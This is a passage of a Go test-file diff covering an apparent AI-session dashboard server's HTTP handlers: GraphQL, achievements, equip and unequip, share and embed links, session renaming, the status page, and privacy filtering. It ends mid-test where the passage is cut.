+	srv.handleOpenAPI(rec, authReq(http.MethodPost, "/api/openapi.json", "", ""))
+	if rec.Code != http.StatusMethodNotAllowed {
+		t.Errorf("status = %d, want 405", rec.Code)
+	}
+}
+
+// TestOpenAPICoversRoutes checks every documented operation is routed to a
+// handler that accepts its method, so the document cannot list endpoints
+// the server does not serve.
+func TestOpenAPICoversRoutes(t *testing.T) {
+	srv := newHandlerTestServer(t, "tok")
+	srv.SetReplayHandler(replay.NewHandler(t.TempDir(), srv.authorize))
+	trackStore, err := tracks.NewStore(t.TempDir())
+	if err != nil {
+		t.Fatalf("tracks.NewStore: %v", err)
+	}
+	srv.SetTrackHandler(tracks.NewHandler(trackStore))
+	mux := http.NewServeMux()
+	srv.SetupRoutes(mux)
+
+	for _, op := range apiOps {
+		path := strings.NewReplacer("{id}", "x").Replace(op.path)
+		rec := httptest.NewRecorder()
+		mux.ServeHTTP(rec, authReq(op.method, path, "tok", ""))
+		if rec.Code == http.StatusMethodNotAllowed || rec.Body.String() == "404 page not found\n" {
+			t.Errorf("%s %s: %d %q", op.method, op.path, rec.Code, rec.Body.String())
+		}
+	}
+}
+
+// ─── handleGraphQL ───────────────────────────────────────────────────────────
+
+func newGraphQLTestServer(t *testing.T) *Server {
+	t.Helper()
+	s := newHandlerTestServer(t, "tok")
+	cfg := *s.Config()
+	cfg.GraphQL.Enabled = true
+	s.SetConfig(&cfg)
+	s.store.Update(&session.SessionState{
+		ID: "a", Name: "alpha", Activity: session.Thinking, Position: 1, TokensUsed: 900,
+		Subagents: []session.SubagentState{{ID: "sa", Slug: "scout"}},
+	})
+	s.store.Update(&session.SessionState{ID: "b", Name: "hidden", WorkingDir: "/secret/repo", Activity: session.Thinking, Position: 2})
+	s.broadcaster.SetPrivacyFilter(&session.PrivacyFilter{BlockedPaths: []string{"/secret/*"}})
+	return s
+}
+
+func TestHandleGraphQL_SelectsFields(t *testing.T) {
+	s := newGraphQLTestServer(t)
+	s.SetStatsTracker(newTrackerForTest(t))
+
+	body := `{"query":"query($id: String) { sessions { name tokensUsed subagents { slug } } one: session(id: $id) { id } stats { totalSessions } }","variables":{"id":"b"}}`
+	rec := httptest.NewRecorder()
+	s.handleGraphQL(rec, authReq(http.MethodPost, "/graphql", "tok", body))
+
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want 200: %s", rec.Code, rec.Body.String())
+	}
+	want := `{"data":{"sessions":[{"name":"alpha","tokensUsed":900,"subagents":[{"slug":"scout"}]}],"one":null,"stats":{"totalSessions":0}}}`
+	if got := strings.TrimSpace(rec.Body.String()); got != want {
+		t.Errorf("body = %s\nwant   %s", got, want)
+	}
+}
+
+func TestHandleGraphQL_GetAndErrors(t *testing.T) {
+	s := newGraphQLTestServer(t)
+
+	// A failing field is null with an error; the rest still resolves.
+	rec := httptest.NewRecorder()
+	s.handleGraphQL(rec, authReq(http.MethodGet, "/graphql?query="+url.QueryEscape("{ stats { totalSessions } projects { name } }"), "tok", ""))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want 200", rec.Code)
+	}
+	var resp struct {
+		Data   map[string]json.RawMessage `json:"data"`
+		Errors []struct{ Message string } `json:"errors"`
+	}
+	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if string(resp.Data["stats"]) != "null" || len(resp.Errors) != 1 || resp.Errors[0].Message != "stats not available" {
+		t.Errorf("stats = %s, errors = %+v", resp.Data["stats"], resp.Errors)
+	}
+	if !strings.Contains(string(resp.Data["projects"]), `"name"`) {
+		t.Errorf("projects = %s", resp.Data["projects"])
+	}
+
+	// An invalid query gets 400 and no data.
+	rec = httptest.NewRecorder()
+	s.handleGraphQL(rec, authReq(http.MethodPost, "/graphql", "tok", `{"query":"{ sessions { pid { x } } }"}`))
+	if rec.Code != http.StatusBadRequest || strings.Contains(rec.Body.String(), `"data"`) {
+		t.Errorf("invalid query: %d %s", rec.Code, rec.Body.String())
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleGraphQL(rec, authReq(http.MethodPost, "/graphql", "tok", `{}`))
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("empty query: status = %d, want 400", rec.Code)
+	}
+}
+
+func TestHandleGraphQL_AuthAndDisabled(t *testing.T) {
+	s := newGraphQLTestServer(t)
+	mux := http.NewServeMux()
+	s.SetupRoutes(mux)
+	query := "/graphql?query=" + url.QueryEscape("{ sessions { id } }")
+
+	rec := httptest.NewRecorder()
+	mux.ServeHTTP(rec, authReq(http.MethodGet, query, "", ""))
+	if rec.Code != http.StatusUnauthorized {
+		t.Errorf("no token: status = %d, want 401", rec.Code)
+	}
+
+	rec = httptest.NewRecorder()
+	mux.ServeHTTP(rec, authReq(http.MethodPut, query, "tok", ""))
+	if rec.Code != http.StatusMethodNotAllowed {
+		t.Errorf("PUT: status = %d, want 405", rec.Code)
+	}
+
+	cfg := *s.Config()
+	cfg.GraphQL.Enabled = false
+	s.SetConfig(&cfg)
+	rec = httptest.NewRecorder()
+	mux.ServeHTTP(rec, authReq(http.MethodGet, query, "tok", ""))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("disabled: status = %d, want 404", rec.Code)
+	}
+}
+
 // ─── handleConfig ────────────────────────────────────────────────────────────
 
 func TestHandleConfig_NoAuth(t *testing.T) {
@@ -226,6 +1098,37 @@ func TestHandleStats_WithTracker(t *testing.T) {
 	}
 }
 
+func TestHandleStatsHeatmap(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	rec := httptest.NewRecorder()
+	s.handleStatsHeatmap(rec, authReq(http.MethodGet, "/api/stats/heatmap", "", ""))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Fatalf("without tracker: status = %d, want %d", rec.Code, http.StatusServiceUnavailable)
+	}
+
+	tracker := newTrackerForTest(t)
+	tracker.SetLocation(time.UTC)
+	s.SetStatsTracker(tracker)
+	rec = httptest.NewRecorder()
+	s.handleStatsHeatmap(rec, authReq(http.MethodGet, "/api/stats/heatmap", "", ""))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusOK)
+	}
+	var got heatmapResponse
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if got.TimeZone != "UTC" {
+		t.Errorf("timeZone = %q, want UTC", got.TimeZone)
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleStatsHeatmap(rec, authReq(http.MethodPost, "/api/stats/heatmap", "", ""))
+	if rec.Code != http.StatusMethodNotAllowed {
+		t.Errorf("POST: status = %d, want %d", rec.Code, http.StatusMethodNotAllowed)
+	}
+}
+
 // ─── handleAchievements ──────────────────────────────────────────────────────
 
 func TestHandleAchievements_NoAuth(t *testing.T) {
@@ -259,6 +1162,29 @@ func TestHandleAchievements_NoTracker(t *testing.T) {
 	}
 }
 
+func TestHandleAchievements_Localized(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	cfg := *s.Config()
+	cfg.Display.Language = "es"
+	s.SetConfig(&cfg)
+
+	rec := httptest.NewRecorder()
+	s.handleAchievements(rec, authReq(http.MethodGet, "/api/achievements", "", ""))
+	var achievements []achievementResponse
+	if err := json.NewDecoder(rec.Body).Decode(&achievements); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	for _, a := range achievements {
+		if a.ID == "first_lap" {
+			if a.Name != "Primera vuelta" || a.Category != "Session Milestones" {
+				t.Errorf("first_lap = %+v, want a Spanish name and the category unchanged", a)
+			}
+			return
+		}
+	}
+	t.Fatal("first_lap not listed")
+}
+
 func TestHandleAchievements_WithUnlocked(t *testing.T) {
 	s := newHandlerTestServer(t, "")
 	tracker := newTrackerForTest(t)
@@ -282,6 +1208,68 @@ func TestHandleAchievements_WithUnlocked(t *testing.T) {
 	}
 }
 
+func TestHandleAchievements_UnseenAndAck(t *testing.T) {
+	dir := t.TempDir()
+	stats := `{"version": 2, "achievementsUnlocked": {"first_lap": "2026-03-01T09:00:00Z", "pit_crew": "2026-03-02T09:00:00Z"},
+		"achievementsAcknowledged": {"first_lap": "2026-03-01T09:00:01Z"}}`
+	if err := os.WriteFile(filepath.Join(dir, "stats.json"), []byte(stats), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	tracker, _, err := gamification.NewStatsTracker(gamification.NewStore(dir), 16, nil)
+	if err != nil {
+		t.Fatalf("NewStatsTracker: %v", err)
+	}
+	s := newHandlerTestServer(t, "")
+	s.SetStatsTracker(tracker)
+
+	unseen := func() []string {
+		rec := httptest.NewRecorder()
+		s.handleAchievements(rec, authReq(http.MethodGet, "/api/achievements?unseen=true", "", ""))
+		var got []achievementResponse
+		if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+			t.Fatalf("decode: %v", err)
+		}
+		ids := []string{}
+		for i := 0; i < len(got); i++ {
+			ids = append(ids, got[i].ID)
+		}
+		return ids
+	}
+	if got := unseen(); len(got) != 1 || got[0] != "pit_crew" {
+		t.Fatalf("unseen = %v, want [pit_crew]", got)
+	}
+
+	rec := httptest.NewRecorder()
+	s.handleAchievementsAck(rec, authReq(http.MethodPost, "/api/achievements/ack", "", `{"ids":["pit_crew","first_lap"]}`))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("ack status = %d, want %d", rec.Code, http.StatusOK)
+	}
+	var resp ackResponse
+	if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if len(resp.Acknowledged) != 1 || resp.Acknowledged[0] != "pit_crew" {
+		t.Errorf("acknowledged = %v, want [pit_crew]", resp.Acknowledged)
+	}
+	if got := unseen(); len(got) != 0 {
+		t.Errorf("unseen after ack = %v, want none", got)
+	}
+}
+
+func TestHandleAchievementsAck_Errors(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	rec := httptest.NewRecorder()
+	s.handleAchievementsAck(rec, authReq(http.MethodGet, "/api/achievements/ack", "", ""))
+	if rec.Code != http.StatusMethodNotAllowed {
+		t.Errorf("GET: status = %d, want %d", rec.Code, http.StatusMethodNotAllowed)
+	}
+	rec = httptest.NewRecorder()
+	s.handleAchievementsAck(rec, authReq(http.MethodPost, "/api/achievements/ack", "", `{}`))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Errorf("no tracker: status = %d, want %d", rec.Code, http.StatusServiceUnavailable)
+	}
+}
+
 // ─── handleEquip ─────────────────────────────────────────────────────────────
 
 func TestHandleEquip_MethodNotAllowed(t *testing.T) {
@@ -376,82 +1364,383 @@ func TestHandleEquip_NotUnlocked(t *testing.T) {
 	}
 }
 
-func TestHandleEquip_InvalidBody(t *testing.T) {
-	s := newHandlerTestServer(t, "")
-	s.SetStatsTracker(newTrackerForTest(t))
-	rec := httptest.NewRecorder()
-	s.handleEquip(rec, authReq(http.MethodPost, "/api/equip", "", `not json`))
-	if rec.Code != http.StatusBadRequest {
-		t.Fatalf("status = %d, want %d", rec.Code, http.StatusBadRequest)
+func TestHandleEquip_InvalidBody(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	s.SetStatsTracker(newTrackerForTest(t))
+	rec := httptest.NewRecorder()
+	s.handleEquip(rec, authReq(http.MethodPost, "/api/equip", "", `not json`))
+	if rec.Code != http.StatusBadRequest {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusBadRequest)
+	}
+}
+
+// ─── handleUnequip ───────────────────────────────────────────────────────────
+
+func TestHandleUnequip_MethodNotAllowed(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	rec := httptest.NewRecorder()
+	s.handleUnequip(rec, authReq(http.MethodGet, "/api/unequip", "", ""))
+	if rec.Code != http.StatusMethodNotAllowed {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusMethodNotAllowed)
+	}
+}
+
+func TestHandleUnequip_NoAuth(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	rec := httptest.NewRecorder()
+	s.handleUnequip(rec, authReq(http.MethodPost, "/api/unequip", "", `{"slot":"paint"}`))
+	if rec.Code != http.StatusUnauthorized {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusUnauthorized)
+	}
+}
+
+func TestHandleUnequip_NilTracker(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	rec := httptest.NewRecorder()
+	s.handleUnequip(rec, authReq(http.MethodPost, "/api/unequip", "", `{"slot":"paint"}`))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusServiceUnavailable)
+	}
+}
+
+func TestHandleUnequip_MissingSlot(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	s.SetStatsTracker(newTrackerForTest(t))
+	rec := httptest.NewRecorder()
+	s.handleUnequip(rec, authReq(http.MethodPost, "/api/unequip", "", `{}`))
+	if rec.Code != http.StatusBadRequest {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusBadRequest)
+	}
+}
+
+func TestHandleUnequip_InvalidSlot(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	s.SetStatsTracker(newTrackerForTest(t))
+	rec := httptest.NewRecorder()
+	s.handleUnequip(rec, authReq(http.MethodPost, "/api/unequip", "", `{"slot":"banana"}`))
+	if rec.Code != http.StatusBadRequest {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusBadRequest)
+	}
+}
+
+func TestHandleUnequip_Success(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	s.SetStatsTracker(newTrackerForTest(t))
+	rec := httptest.NewRecorder()
+	s.handleUnequip(rec, authReq(http.MethodPost, "/api/unequip", "", `{"slot":"paint"}`))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusOK)
+	}
+	if ct := rec.Header().Get("Content-Type"); ct != "application/json" {
+		t.Errorf("Content-Type = %q, want application/json", ct)
+	}
+	var loadout gamification.Equipped
+	if err := json.NewDecoder(rec.Body).Decode(&loadout); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if loadout.Paint != "" {
+		t.Errorf("paint = %q, want empty", loadout.Paint)
+	}
+}
+
+// ─── handleShare ─────────────────────────────────────────────────────────────
+
+// newShareTestServer returns a handler test server with sharing enabled.
+func newShareTestServer(t *testing.T) *Server {
+	t.Helper()
+	s := newHandlerTestServer(t, "secret")
+	cfg := *s.Config()
+	cfg.Share = config.ShareConfig{DefaultTTL: time.Hour, MaxTTL: 24 * time.Hour}
+	s.SetConfig(&cfg)
+	m, err := share.NewManager(t.TempDir())
+	if err != nil {
+		t.Fatalf("NewManager: %v", err)
+	}
+	s.SetShareManager(m)
+	return s
+}
+
+func TestHandleShare_CreatesWorkingLink(t *testing.T) {
+	s := newShareTestServer(t)
+	s.store.Update(&session.SessionState{ID: "s1", Name: "refactor", WorkingDir: "/home/me/repo", PID: 7})
+
+	mux := http.NewServeMux()
+	s.SetupRoutes(mux)
+
+	rec := httptest.NewRecorder()
+	mux.ServeHTTP(rec, authReq(http.MethodPost, "/api/sessions/s1/share", "secret", `{"ttl":"2h"}`))
+	if rec.Code != http.StatusCreated {
+		t.Fatalf("status = %d, want %d: %s", rec.Code, http.StatusCreated, rec.Body.String())
+	}
+	var resp shareResponse
+	if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if time.Until(resp.ExpiresAt) < 119*time.Minute || time.Until(resp.ExpiresAt) > 2*time.Hour {
+		t.Errorf("ExpiresAt = %s, want ~2h from now", resp.ExpiresAt)
+	}
+	u, err := url.Parse(resp.URL)
+	if err != nil || !strings.HasPrefix(u.Path, "/share/") {
+		t.Fatalf("URL = %q", resp.URL)
+	}
+
+	// The link opens without the auth token.
+	rec = httptest.NewRecorder()
+	mux.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, u.Path+"?format=json", nil))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("GET share = %d, want 200", rec.Code)
+	}
+	var sh share.Share
+	if err := json.NewDecoder(rec.Body).Decode(&sh); err != nil {
+		t.Fatalf("decode share: %v", err)
+	}
+	if sh.Session.Name != "refactor" || sh.Session.WorkingDir != "repo" || sh.Session.PID != 0 {
+		t.Errorf("shared session = %+v", sh.Session)
+	}
+}
+
+func TestHandleShare_Errors(t *testing.T) {
+	s := newShareTestServer(t)
+	s.store.Update(&session.SessionState{ID: "s1", WorkingDir: "/secret/repo"})
+	s.broadcaster.SetPrivacyFilter(&session.PrivacyFilter{BlockedPaths: []string{"/secret"}})
+
+	tests := []struct {
+		name   string
+		method string
+		id     string
+		token  string
+		body   string
+		want   int
+	}{
+		{"no auth", http.MethodPost, "s1", "", "", http.StatusUnauthorized},
+		{"wrong method", http.MethodGet, "s1", "secret", "", http.StatusMethodNotAllowed},
+		{"unknown session", http.MethodPost, "nope", "secret", "", http.StatusNotFound},
+		{"privacy blocked", http.MethodPost, "s1", "secret", "", http.StatusNotFound},
+		{"bad ttl", http.MethodPost, "s1", "secret", `{"ttl":"soon"}`, http.StatusBadRequest},
+		{"ttl over max", http.MethodPost, "s1", "secret", `{"ttl":"48h"}`, http.StatusBadRequest},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rec := httptest.NewRecorder()
+			s.handleSessionRoutes(rec, authReq(tt.method, "/api/sessions/"+tt.id+"/share", tt.token, tt.body))
+			if rec.Code != tt.want {
+				t.Errorf("status = %d, want %d", rec.Code, tt.want)
+			}
+		})
+	}
+}
+
+// ─── handleEmbed ─────────────────────────────────────────────────────────────
+
+func TestHandleEmbed_TokenReadsOnlyItsSession(t *testing.T) {
+	s := newShareTestServer(t)
+	s.store.Update(&session.SessionState{ID: "s1", Name: "migrate", WorkingDir: "/home/me/repo", LastAssistantText: "sk-..."})
+	s.store.Update(&session.SessionState{ID: "s2", Name: "other"})
+
+	mux := http.NewServeMux()
+	s.SetupRoutes(mux)
+
+	rec := httptest.NewRecorder()
+	mux.ServeHTTP(rec, authReq(http.MethodPost, "/api/sessions/s1/embed", "secret", `{"ttl":"3h"}`))
+	if rec.Code != http.StatusCreated {
+		t.Fatalf("status = %d, want %d: %s", rec.Code, http.StatusCreated, rec.Body.String())
+	}
+	var resp embedResponse
+	if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	u, err := url.Parse(resp.URL)
+	if err != nil || u.Path != "/embed/s1" || u.Fragment != "token="+resp.Token {
+		t.Fatalf("URL = %q", resp.URL)
+	}
+
+	poll := func(id, token string) *httptest.ResponseRecorder {
+		rec := httptest.NewRecorder()
+		mux.ServeHTTP(rec, authReq(http.MethodGet, "/embed/"+id+"/session", token, ""))
+		return rec
+	}
+	rec = poll("s1", resp.Token)
+	if rec.Code != http.StatusOK {
+		t.Fatalf("poll = %d, want 200", rec.Code)
+	}
+	var got session.SessionState
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode session: %v", err)
+	}
+	if got.Name != "migrate" || got.WorkingDir != "repo" || got.LastAssistantText != "" {
+		t.Errorf("widget session = %+v, want it sanitized like a share", got)
+	}
+
+	if rec := poll("s2", resp.Token); rec.Code != http.StatusUnauthorized {
+		t.Errorf("poll of another session = %d, want 401", rec.Code)
+	}
+	if rec := poll("s1", "secret"); rec.Code != http.StatusUnauthorized {
+		t.Errorf("poll with the auth token = %d, want 401", rec.Code)
+	}
+	// The embed token is no use against the API.
+	rec = httptest.NewRecorder()
+	mux.ServeHTTP(rec, authReq(http.MethodGet, "/api/sessions/s1", resp.Token, ""))
+	if rec.Code != http.StatusUnauthorized {
+		t.Errorf("API with the embed token = %d, want 401", rec.Code)
+	}
+}
+
+// ─── handleSessionName ───────────────────────────────────────────────────────
+
+func newNamesTestServer(t *testing.T) *Server {
+	t.Helper()
+	s := newHandlerTestServer(t, "secret")
+	aliases, err := names.Load(filepath.Join(t.TempDir(), "names.json"))
+	if err != nil {
+		t.Fatalf("names.Load: %v", err)
 	}
+	s.broadcaster.SetAliases(aliases)
+	return s
 }
 
-// ─── handleUnequip ───────────────────────────────────────────────────────────
+func TestHandleSessionName_RenamesSessionAndDir(t *testing.T) {
+	s := newNamesTestServer(t)
+	s.store.Update(&session.SessionState{ID: "s1", Name: "api", WorkingDir: "/work/billing/api"})
+	s.store.Update(&session.SessionState{ID: "s2", Name: "api", WorkingDir: "/work/billing/api/"})
+	s.store.Update(&session.SessionState{ID: "s3", Name: "api", WorkingDir: "/work/search/api"})
 
-func TestHandleUnequip_MethodNotAllowed(t *testing.T) {
-	s := newHandlerTestServer(t, "")
 	rec := httptest.NewRecorder()
-	s.handleUnequip(rec, authReq(http.MethodGet, "/api/unequip", "", ""))
-	if rec.Code != http.StatusMethodNotAllowed {
-		t.Fatalf("status = %d, want %d", rec.Code, http.StatusMethodNotAllowed)
+	s.handleSessionRoutes(rec, authReq(http.MethodPut, "/api/sessions/s1/name", "secret", `{"name":"billing-api","scope":"dir"}`))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d: %s", rec.Code, rec.Body.String())
+	}
+	var got session.SessionState
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if got.Name != "billing-api" {
+		t.Errorf("response name = %q, want billing-api", got.Name)
 	}
-}
 
-func TestHandleUnequip_NoAuth(t *testing.T) {
-	s := newHandlerTestServer(t, "secret")
-	rec := httptest.NewRecorder()
-	s.handleUnequip(rec, authReq(http.MethodPost, "/api/unequip", "", `{"slot":"paint"}`))
-	if rec.Code != http.StatusUnauthorized {
-		t.Fatalf("status = %d, want %d", rec.Code, http.StatusUnauthorized)
+	rec = httptest.NewRecorder()
+	s.handleSessionRoutes(rec, authReq(http.MethodPut, "/api/sessions/s2/name", "secret", `{"name":"  hotfix  "}`))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d: %s", rec.Code, rec.Body.String())
 	}
-}
 
-func TestHandleUnequip_NilTracker(t *testing.T) {
-	s := newHandlerTestServer(t, "")
-	rec := httptest.NewRecorder()
-	s.handleUnequip(rec, authReq(http.MethodPost, "/api/unequip", "", `{"slot":"paint"}`))
-	if rec.Code != http.StatusServiceUnavailable {
-		t.Fatalf("status = %d, want %d", rec.Code, http.StatusServiceUnavailable)
+	want := map[string]string{"s1": "billing-api", "s2": "hotfix", "s3": "api"}
+	for _, st := range s.broadcaster.FilterSessions(s.store.GetAll()) {
+		if st.Name != want[st.ID] {
+			t.Errorf("%s name = %q, want %q", st.ID, st.Name, want[st.ID])
+		}
+	}
+	if st, _ := s.store.Get("s1"); st.Name != "api" {
+		t.Errorf("store name = %q, aliases must not rewrite the store", st.Name)
 	}
 }
 
-func TestHandleUnequip_MissingSlot(t *testing.T) {
-	s := newHandlerTestServer(t, "")
-	s.SetStatsTracker(newTrackerForTest(t))
-	rec := httptest.NewRecorder()
-	s.handleUnequip(rec, authReq(http.MethodPost, "/api/unequip", "", `{}`))
-	if rec.Code != http.StatusBadRequest {
-		t.Fatalf("status = %d, want %d", rec.Code, http.StatusBadRequest)
+func TestHandleSessionName_Errors(t *testing.T) {
+	s := newNamesTestServer(t)
+	s.store.Update(&session.SessionState{ID: "s1", WorkingDir: "/secret/repo"})
+	s.store.Update(&session.SessionState{ID: "s2"})
+	s.broadcaster.SetPrivacyFilter(&session.PrivacyFilter{BlockedPaths: []string{"/secret"}})
+
+	tests := []struct {
+		name   string
+		method string
+		id     string
+		token  string
+		body   string
+		want   int
+	}{
+		{"no auth", http.MethodPut, "s2", "", `{"name":"x"}`, http.StatusUnauthorized},
+		{"wrong method", http.MethodPost, "s2", "secret", `{"name":"x"}`, http.StatusMethodNotAllowed},
+		{"unknown session", http.MethodPut, "nope", "secret", `{"name":"x"}`, http.StatusNotFound},
+		{"privacy blocked", http.MethodPut, "s1", "secret", `{"name":"x"}`, http.StatusNotFound},
+		{"bad scope", http.MethodPut, "s2", "secret", `{"name":"x","scope":"repo"}`, http.StatusBadRequest},
+		{"control chars", http.MethodPut, "s2", "secret", `{"name":"a\u0007b"}`, http.StatusBadRequest},
+		{"too long", http.MethodPut, "s2", "secret", `{"name":"` + strings.Repeat("x", names.MaxLen+1) + `"}`, http.StatusBadRequest},
+		{"dir without working dir", http.MethodPut, "s2", "secret", `{"name":"x","scope":"dir"}`, http.StatusConflict},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rec := httptest.NewRecorder()
+			s.handleSessionRoutes(rec, authReq(tt.method, "/api/sessions/"+tt.id+"/name", tt.token, tt.body))
+			if rec.Code != tt.want {
+				t.Errorf("status = %d, want %d", rec.Code, tt.want)
+			}
+		})
 	}
 }
 
-func TestHandleUnequip_InvalidSlot(t *testing.T) {
+func TestHandleSessionName_Unavailable(t *testing.T) {
 	s := newHandlerTestServer(t, "")
-	s.SetStatsTracker(newTrackerForTest(t))
+	s.store.Update(&session.SessionState{ID: "s1"})
 	rec := httptest.NewRecorder()
-	s.handleUnequip(rec, authReq(http.MethodPost, "/api/unequip", "", `{"slot":"banana"}`))
-	if rec.Code != http.StatusBadRequest {
-		t.Fatalf("status = %d, want %d", rec.Code, http.StatusBadRequest)
+	s.handleSessionRoutes(rec, authReq(http.MethodPut, "/api/sessions/s1/name", "", `{"name":"x"}`))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Errorf("status = %d, want 503", rec.Code)
 	}
 }
 
-func TestHandleUnequip_Success(t *testing.T) {
-	s := newHandlerTestServer(t, "")
-	s.SetStatsTracker(newTrackerForTest(t))
+// ─── handleStatus ────────────────────────────────────────────────────────────
+
+func TestHandleStatus(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	s.store.Update(&session.SessionState{ID: "s1", Name: "overnight", StartedAt: time.Now().Add(-2 * time.Hour), Activity: session.Thinking})
+	s.store.Update(&session.SessionState{ID: "s2", Name: "hidden", WorkingDir: "/secret/repo", StartedAt: time.Now().Add(-2 * time.Hour)})
+	s.broadcaster.SetPrivacyFilter(&session.PrivacyFilter{BlockedPaths: []string{"/secret/*"}})
+	board := status.NewBoard(func() []*session.SessionState {
+		return s.broadcaster.FilterSessions(s.store.GetAll())
+	})
+	board.Sample()
+	s.SetStatusBoard(board)
+
+	mux := http.NewServeMux()
+	s.SetupRoutes(mux)
+
+	// Off by default.
 	rec := httptest.NewRecorder()
-	s.handleUnequip(rec, authReq(http.MethodPost, "/api/unequip", "", `{"slot":"paint"}`))
+	mux.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/status", nil))
+	if rec.Code != http.StatusNotFound {
+		t.Fatalf("disabled: status = %d, want %d", rec.Code, http.StatusNotFound)
+	}
+
+	cfg := *s.Config()
+	cfg.Status = config.StatusConfig{Enabled: true, MinDuration: time.Hour}
+	s.SetConfig(&cfg)
+
+	// No auth token needed.
+	rec = httptest.NewRecorder()
+	mux.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/status", nil))
 	if rec.Code != http.StatusOK {
-		t.Fatalf("status = %d, want %d", rec.Code, http.StatusOK)
+		t.Fatalf("enabled: status = %d, want %d", rec.Code, http.StatusOK)
 	}
-	if ct := rec.Header().Get("Content-Type"); ct != "application/json" {
-		t.Errorf("Content-Type = %q, want application/json", ct)
+	body := rec.Body.String()
+	if !strings.Contains(body, "overnight") {
+		t.Error("page missing the running session")
 	}
-	var loadout gamification.Equipped
-	if err := json.NewDecoder(rec.Body).Decode(&loadout); err != nil {
-		t.Fatalf("decode: %v", err)
+	if strings.Contains(body, "hidden") {
+		t.Error("page shows a session hidden by the privacy filter")
 	}
-	if loadout.Paint != "" {
-		t.Errorf("paint = %q, want empty", loadout.Paint)
+}
+
+// ─── overlay routes ──────────────────────────────────────────────────────────
+
+func TestOverlayRoutesServeOverlayPage(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "overlay.html"), []byte("<div id=\"overlay-root\"></div>"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "index.html"), []byte("dashboard"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	base := newHandlerTestServer(t, "")
+	s := NewServer(base.Config(), base.store, base.broadcaster, dir, true, nil, nil, "")
+	mux := http.NewServeMux()
+	s.SetupRoutes(mux)
+
+	for _, path := range []string{"/overlay/track", "/overlay/leaderboard?scale=2&finished=0"} {
+		rec := httptest.NewRecorder()
+		mux.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, path, nil))
+		if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), "overlay-root") {
+			t.Errorf("GET %s = %d %q, want the overlay page", path, rec.Code, rec.Body.String())
+		}
 	}
 }
 
@@ -530,6 +1819,45 @@ func TestHandleTail_InvalidOffsetIgnored(t *testing.T) {
 	}
 }
 
+// ─── handleContext ───────────────────────────────────────────────────────────
+
+func TestHandleContext_Composition(t *testing.T) {
+	logFile := newTailLogFile(t, "test-handler-context",
+		`{"type":"assistant","message":{"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"Read","input":{"file_path":"/repo/src/main.go"}}]},"timestamp":"2026-01-30T10:00:00Z"}`+"\n"+
+			`{"type":"user","message":{"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":"package main"}]},"timestamp":"2026-01-30T10:00:01Z"}`+"\n")
+
+	s := newHandlerTestServer(t, "")
+	s.broadcaster.SetPrivacyFilter(&session.PrivacyFilter{MaskWorkingDirs: true})
+	s.store.Update(&session.SessionState{ID: "s1", LogPath: logFile, WorkingDir: "/repo"})
+
+	rec := httptest.NewRecorder()
+	s.handleSessionRoutes(rec, authReq(http.MethodGet, "/api/sessions/s1/context?top=5", "", ""))
+	if rec.Code != http.StatusOK {
